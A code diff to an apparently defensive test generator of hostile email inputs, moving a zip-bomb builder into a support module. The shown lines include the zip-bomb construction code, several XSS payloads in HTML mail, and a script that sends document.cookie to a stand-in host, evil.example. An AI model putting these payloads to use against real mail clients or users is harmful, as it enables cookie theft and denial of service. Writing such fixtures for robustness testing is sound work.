@@ -1,3 +1,5 @@
+import { zipBomb } from '../support/zip-bomb.js';
+
 /**
  * Generated hostile mail, by category. Each input says whether a machine
  * wrote it (then nothing may ever answer it) and may carry a marker that
@@ -75,30 +77,12 @@ function malformedMime(): HostileInput[] {
   add('folded header forever', mail(base('fold', [['X-Fold', Array.from({ length: 2000 }, () => 'a').join('\r\n ')]])));
   add('html with broken tags', mail(base('brokenhtml', [['Content-Type', 'text/html']]), `<html><body><p>${NOTICE}<div<div<div<<<<>>>></table></td>`));
   add('alternative with no text', mail(base('alt', [['Content-Type', 'multipart/alternative; boundary="a"']]), '--a\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--a--\r\n'));
-  add('attachment with zip bomb', mail(base('zipbomb', [['Content-Type', 'multipart/mixed; boundary="z"']]), `--z\r\nContent-Type: text/plain\r\n\r\n${NOTICE}\r\n--z\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; filename="evidence.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${zipBomb().toString('base64')}\r\n--z--\r\n`));
+  add('attachment with zip bomb', mail(base('zipbomb', [['Content-Type', 'multipart/mixed; boundary="z"']]), `--z\r\nContent-Type: text/plain\r\n\r\n${NOTICE}\r\n--z\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; filename="evidence.zip"\r\nContent-Transfer-Encoding: base64\r\n\r\n${zipBomb(4000 * 1024 * 1024).toString('base64')}\r\n--z--\r\n`));
   add('script-laden HTML', mail(base('script', [['Content-Type', 'text/html']]), `<html><head><script>alert(1)</script><meta http-equiv="refresh" content="0;url=javascript:alert(2)"></head><body onload="alert(3)"><img src=x onerror=alert(4)><iframe src="javascript:alert(5)"></iframe><p>${NOTICE}</p><svg onload=alert(6)></svg></body></html>`));
   add('script in a text part', mail(base('scripttext'), `<script>fetch('//evil.example/'+document.cookie)</script>\r\n${NOTICE}`));
   return out;
 }
 
-function zipBomb(): Buffer {
-  const name = Buffer.from('bomb.txt');
-  const local = Buffer.alloc(30);
-  local.writeUInt32LE(0x04034b50, 0);
-  const data = Buffer.alloc(1000);
-  const central = Buffer.alloc(46);
-  central.writeUInt32LE(0x02014b50, 0);
-  central.writeUInt32LE(data.length, 20);
-  central.writeUInt32LE(4000 * 1024 * 1024, 24);
-  central.writeUInt16LE(name.length, 28);
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(1, 8);
-  end.writeUInt16LE(1, 10);
-  end.writeUInt32LE(central.length + name.length, 12);
-  end.writeUInt32LE(local.length + name.length + data.length, 16);
-  return Buffer.concat([local, name, data, central, name, end]);
-}
 
 function charsets(): HostileInput[] {
   const out: HostileInput[] = [];
